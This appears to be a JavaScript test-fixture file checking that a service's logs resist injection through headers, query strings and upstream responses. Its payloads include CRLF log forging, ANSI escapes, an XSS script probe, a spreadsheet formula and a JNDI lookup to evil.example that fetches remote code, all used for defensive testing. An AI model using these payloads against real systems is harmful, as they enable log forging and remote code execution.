// Texts that try to inject lines into the log, or into an operator's screen.
const nasty = {
  "a line break": "a%0a{}",
  "an escape sequence": "\x1b[31mred\x1b[0m",
  quotes: '","level":"info","x":"',
  "a script": "<script>alert(1)</script>",
  "a look-up": "${jndi:ldap://evil.example/x}",
  "a formula": "=cmd|x",
};
const target = "/v2/conversations";

export default [
  ...Object.entries(nasty).map(([name, text]) => ({
    name: `${name} in every header`,
    secrets: [text],
    request: {
      headers: [
        ["User-Agent", text],
        ["Referer", text],
        ["X-Request-Id", text],
        ["X-Forwarded-For", text],
        ["Cookie", text],
      ],
    },
    want: { status: 200 },
    sent: [{ target }],
  })),
  ...Object.entries({
    "a line break": "%0d%0a{%22event%22:1}",
    "an escape sequence": "%1b%5b31m",
    "a bidi override": "%E2%80%AE",
  }).map(([name, text]) => ({
    name: `${name} in the query`,
    request: { target: `${target}?q=${text}` },
    want: { status: 200, lacks: [text] },
    sent: [{ target: `${target}?q=${text}` }],
  })),
  {
    name: "a private path is not in the log",
    secrets: ["fake-person@mail.example"],
    request: { target: "/v2/nothing/fake-person@mail.example", token: null },
    want: { status: 401 },
  },
  {
    name: "an unknown method is not in the log",
    secrets: ["MKCALENDAR-private"],
    request: { method: "MKCALENDAR-private" },
    want: { status: [400, 405, 501] },
  },
  {
    name: "an upstream that says lines",
    request: {},
    answer: [{ status: 500, body: JSON.stringify({ message: 'a\r\n{"event":"request"}\u001b[2J\u2028\u202e' }) }],
    want: { status: 502 },
    sent: [{ target }],
  },
  {
    name: "an upstream message with line breaks as text",
    request: {},
    answer: [{ status: 500, body: 'a\r\n{"event":"request","level":"info"}' }],
    want: { status: 502 },
    sent: [{ target }],
  },
  {
    name: "an upstream message of a megabyte",
    request: {},
    answer: [{ status: 500, body: { zeros: 1_000_000 } }],
    want: { status: 502 },
    sent: [{ target }],
  },
  {
    name: "an upstream's request id that breaks quotes",
    request: {},
    answer: [{ status: 404, body: "{}", headers: [["X-Request-Id", '","x":"']] }],
    secrets: ['\\",\\"x'],
    want: { status: 404 },
    sent: [{ target }],
  },
];
